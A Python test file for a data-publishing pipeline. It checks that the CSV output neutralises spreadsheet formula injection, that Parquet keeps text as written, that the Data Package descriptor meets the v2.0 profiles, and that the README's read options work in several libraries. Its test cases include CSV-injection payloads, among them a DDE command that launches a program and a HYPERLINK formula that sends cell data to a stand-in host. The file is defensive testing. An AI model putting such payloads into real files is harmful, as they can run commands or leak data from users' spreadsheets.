"""The published files as the tools users have read them: spreadsheets, pandas, the Data Package profile."""

import io
import json
import re
import shutil
from datetime import UTC, datetime

import duckdb
import frictionless
import jsonschema
import pandas as pd
import polars as pl
import pyarrow as arrow
import pyarrow.parquet as pq
import pytest
from referencing import Registry, Resource
from referencing.jsonschema import DRAFT7

from pipelines.publishing.files import csv_bytes, parquet_bytes
from schemas.contract import INDICATORS_ARROW_SCHEMA

from .conftest import REPO, SEED_ARTICLE, shared_path
from .pipeline_runs import run_pipeline

# Real cells and what the CSV must hold for each: a value a spreadsheet shows as written is
# kept, a cell it would run as a formula gets a leading quote.
SPREADSHEET_CELLS = [
    ("-0.3%", "-0.3%"),
    ("-12亿元", "-12亿元"),
    ("-.5", "-.5"),
    ("-16.1亿美元", "-16.1亿美元"),
    ("净利润-16.1亿美元", "净利润-16.1亿美元"),
    ("=1+1", "'=1+1"),
    ("+86 10", "'+86 10"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("-A1", "'-A1"),
    ("-=1", "'-=1"),
    ("-", "'-"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("第一行\r第二行", "第一行\r第二行"),
    ("-12亿元(2024年)", "-12亿元(2024年)"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ('-1+HYPERLINK("http://host/?"&A1)', '\'-1+HYPERLINK("http://host/?"&A1)'),
]


def _csv_cells(cells: list[str]) -> list[str]:
    frame = pd.DataFrame({"cell": cells})
    read = pd.read_csv(io.BytesIO(csv_bytes(frame)), encoding="utf-8-sig", dtype=str, keep_default_na=False)
    return list(read["cell"])


@pytest.mark.parametrize(("cell", "in_csv"), SPREADSHEET_CELLS)
def test_only_cells_a_spreadsheet_would_run_are_defused_in_the_csv(cell, in_csv):
    assert _csv_cells([cell]) == [in_csv]


def test_the_parquet_keeps_every_cell_as_written():
    cells = [cell for cell, _ in SPREADSHEET_CELLS]
    schema = arrow.schema([("cell", arrow.string())])
    data = parquet_bytes(pd.DataFrame({"cell": cells}), schema, {})
    assert pq.read_table(io.BytesIO(data)).column("cell").to_pylist() == cells


# --- the data package against the official Data Package v2.0 profile ---------------------

# An article with a publication date, a negative percentage and an ASCII quote in a sentence
# that gives rows: what spreadsheet, profile and CSV readers have tripped on.
DATED_ARTICLE = '来源：新华社\n2025年3月5日\n净利润-0.3%。他说"营收增长"12%，2024年收入12亿元。\n'
PROFILE_URL = "https://datapackage.org/profiles/2.0/{}"
PROFILES = ("datapackage.json", "dataresource.json", "tableschema.json", "tabledialect.json")


@pytest.fixture(scope="module")
def release(tmp_path_factory):
    """A real release made by the pipeline: the seed article and a dated one."""
    raw = tmp_path_factory.mktemp("raw")
    out = tmp_path_factory.mktemp("release") / "outputs"
    shutil.copy(SEED_ARTICLE, raw)
    (raw / "dated.txt").write_text(DATED_ARTICLE, "utf-8")
    assert run_pipeline(raw, out).success
    return out


def _profile_validators() -> dict[str, jsonschema.Draft7Validator]:
    """A validator per v2.0 profile, each resolving the profiles' URLs to the local copies
    in ../shared (the machines here cannot reach datapackage.org), date-time formats checked."""
    folder = shared_path("profiles", "datapackage-2.0")
    documents = {name: json.loads((folder / name).read_text("utf-8")) for name in PROFILES}
    registry = Registry().with_resources(
        (PROFILE_URL.format(name), Resource.from_contents(document, default_specification=DRAFT7))
        for name, document in documents.items()
    )
    return {
        PROFILE_URL.format(name): jsonschema.Draft7Validator(
            document, registry=registry, format_checker=jsonschema.Draft7Validator.FORMAT_CHECKER
        )
        for name, document in documents.items()
    }


def _profile_errors(validator, descriptor) -> list[str]:
    return [f"{list(e.absolute_path)}: {e.message[:200]}" for e in validator.iter_errors(descriptor)]


def test_the_data_package_meets_the_official_v2_profile_it_declares(release):
    validators = _profile_validators()
    package = json.loads((release / "datapackage.json").read_text("utf-8"))
    assert package["$schema"] == PROFILE_URL.format("datapackage.json")
    assert _profile_errors(validators[package["$schema"]], package) == []
    for resource in package["resources"]:
        assert _profile_errors(validators[PROFILE_URL.format("dataresource.json")], resource) == []
        assert _profile_errors(validators[PROFILE_URL.format("tableschema.json")], resource["schema"]) == []
        if "dialect" in resource:
            assert (
                _profile_errors(validators[PROFILE_URL.format("tabledialect.json")], resource["dialect"])
                == []
            )


def test_the_profile_check_catches_what_the_issue_found():
    validator = _profile_validators()[PROFILE_URL.format("datapackage.json")]
    old = {
        "created": "2026-01-01T00:00:00+0000",
        "resources": [{"name": "indicators-parquet", "path": "indicators.parquet", "type": "file"}],
    }
    assert [e.validator for e in validator.iter_errors(old)] == ["format", "enum"]


def test_the_data_package_says_what_a_catalogue_shows(release):
    package = json.loads((release / "datapackage.json").read_text("utf-8"))
    for key in ("id", "title", "description", "keywords", "contributors", "licenses", "sources"):
        assert package[key], key
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", package["created"])
    for resource in package["resources"]:
        assert resource["type"] == "table" and resource["title"] and resource["description"]
        assert all(field["title"] and field["description"] for field in resource["schema"]["fields"])
    csv = {r["path"]: r for r in package["resources"]}["indicators.csv"]
    assert csv["encoding"] == "utf-8" and csv["dialect"]["lineTerminator"] == "\r\n"


def test_the_homepage_is_the_setting_s(monkeypatch):
    from pipelines.publishing.releases import data_package

    empty: list[str] = []  # no units
    monkeypatch.setenv("INDICATORS_HOMEPAGE", "https://data.example.org/china-indicators")
    package = data_package({}, "1.1.0", "1.0.0", datetime(2026, 1, 1, tzinfo=UTC), "0" * 64, empty)
    assert package["homepage"] == "https://data.example.org/china-indicators"
    monkeypatch.delenv("INDICATORS_HOMEPAGE")
    assert "homepage" not in data_package(
        {}, "1.1.0", "1.0.0", datetime(2026, 1, 1, tzinfo=UTC), "0" * 64, empty
    )


def test_frictionless_validates_every_table_of_a_real_release_bom_and_all(release):
    report = frictionless.validate(release / "datapackage.json")
    assert report.valid, report.flatten(["taskNumber", "rowNumber", "fieldName", "type", "note"])
    package = frictionless.Package(release / "datapackage.json")
    articles = package.get_resource("articles")
    with articles:
        assert articles.header[0] == "article_id"  # the byte-order mark is not read into the header
        dated = next(row for row in articles.read_rows() if row["article_id"] == "dated")
    assert dated["published_date"] == datetime(2025, 3, 5, tzinfo=UTC)


def test_csv_timestamps_are_iso_8601_with_z(release):
    articles = pd.read_csv(release / "articles.csv", encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert articles.set_index("article_id").loc["dated", "published_date"] == "2025-03-05T00:00:00Z"


def test_frictionless_checks_the_parquet_rows_against_the_schema(release, tmp_path):
    copy = shutil.copytree(release, tmp_path / "outputs")
    broken = pd.read_parquet(copy / "indicators.parquet")
    broken.loc[0, "measure"] = "vibes"
    table = arrow.Table.from_pandas(broken, schema=INDICATORS_ARROW_SCHEMA, preserve_index=False)
    pq.write_table(table, copy / "indicators.parquet")
    report = frictionless.validate(copy / "datapackage.json")
    errors = report.flatten(["taskNumber", "fieldName", "type"])
    assert [1, "measure", "constraint-error"] in errors


# --- reading the CSV with the options the README gives ------------------------------------

QUOTED_SENTENCE = '他说"营收增长"12%，2024年收入12亿元。'


def _readme_read(reader: str, csv_path) -> str:
    """The README's line that reads the indicators CSV with `reader`, pointed at `csv_path`."""
    readme = (REPO / "README.md").read_text("utf-8")
    lines = [line.strip() for line in readme.splitlines() if "outputs/indicators.csv" in line]
    (line,) = [line for line in lines if line.startswith(f"{reader}(")]
    return line.replace("outputs/indicators.csv", str(csv_path))


@pytest.mark.parametrize("reader", ["pd.read_csv", "polars.read_csv", "duckdb.sql"])
def test_the_readme_s_read_options_give_the_parquet_s_text(release, reader):
    parquet = pd.read_parquet(release / "indicators.parquet")
    read = eval(_readme_read(reader, release / "indicators.csv"), {"pd": pd, "polars": pl, "duckdb": duckdb})
    frame = read.df() if reader == "duckdb.sql" else read.to_pandas() if reader == "polars.read_csv" else read
    assert list(frame.columns) == list(parquet.columns) and len(frame) == len(parquet)
    for column in ("indicator_id", "article_id", "period"):
        as_text = frame[column].astype(object).where(frame[column].notna(), None)
        assert list(as_text) == list(parquet[column].astype(object).where(parquet[column].notna(), None)), (
            column
        )
    assert "2024" in set(frame["period"]) and QUOTED_SENTENCE in set(frame["sentence"])


def test_pandas_with_the_readme_s_options_keeps_every_text_cell(release):
    parquet = pd.read_parquet(release / "indicators.parquet")
    csv = eval(_readme_read("pd.read_csv", release / "indicators.csv"), {"pd": pd})
    assert (
        str(csv["period"].dtype) == "string" and csv["period"].isna().sum() == parquet["period"].isna().sum()
    )
    for column in ("surface", "unit", "qualifier", "measure", "metric", "sentence", "rules"):
        assert list(csv[column]) == list(parquet[column]), column
    assert pd.read_csv(release / "indicators.csv")["period"].dtype == "float64"  # why the options are needed


@pytest.fixture(scope="module")
def spark():
    """A local Spark session, where pyspark (and a Java runtime) is installed: it is not in the
    test extra, being some 300 MB; `pip install pyspark` runs this test."""
    pyspark_sql = pytest.importorskip(
        "pyspark.sql", reason="pyspark is not installed (not in the test extra)"
    )
    if shutil.which("java") is None:
        pytest.skip("Spark needs a Java runtime, and there is no java on PATH")
    session = (
        pyspark_sql.SparkSession.builder.master("local[1]").config("spark.ui.enabled", "false").getOrCreate()
    )
    yield session
    session.stop()


def test_spark_with_the_readme_s_options_reads_quotes_and_line_breaks_in_their_cells(
    spark, release, tmp_path
):
    parquet = pd.read_parquet(release / "indicators.parquet")
    frame = eval(_readme_read("spark.read.csv", release / "indicators.csv"), {"spark": spark}).toPandas()
    assert list(frame.columns) == list(parquet.columns) and len(frame) == len(parquet)
    assert QUOTED_SENTENCE in set(frame["sentence"]) and "2024" in set(frame["period"])
    cells = ['x",y', 'ends with"', "line\nbreak", '"quoted", then, commas']
    (tmp_path / "indicators.csv").write_bytes(csv_bytes(pd.DataFrame({"cell": cells})))
    read = eval(_readme_read("spark.read.csv", tmp_path / "indicators.csv"), {"spark": spark}).toPandas()
    assert list(read["cell"]) == cells
